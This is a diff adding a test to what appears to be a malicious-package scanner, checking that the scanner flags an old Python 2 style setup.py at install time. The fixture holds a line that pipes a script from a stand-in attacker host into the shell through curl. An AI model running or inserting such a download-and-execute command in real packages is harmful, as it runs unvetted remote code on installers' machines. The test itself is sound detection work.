@@ -118,3 +118,16 @@ def test_install_command_in_a_helper_module_posts_data(tmp_path: Path) -> None:
     hit = top(scan(make_sdist(tmp_path, "z", "1.0", files), tmp_path))
     assert (hit.rule_id, hit.trigger) == ("CW207", Trigger.INSTALL)
     assert hit.severity is Severity.HIGH
+
+
+def test_python2_setup_py_is_read_line_by_line(tmp_path: Path) -> None:
+    setup = (
+        "import os\nfrom distutils.core import setup\n"
+        'print "installing"\n'
+        "os.system('curl -s https://x.evil.invalid/i.sh | sh')\n"
+        "setup(name='old')\n"
+    )
+    found = scan(make_sdist(tmp_path, "old", "1.0", {"setup.py": setup}), tmp_path)
+    hit = top(found)
+    assert (hit.rule_id, hit.trigger) == ("CW202", Trigger.INSTALL)
+    assert any(f.rule_id == "CW210" for f in found)
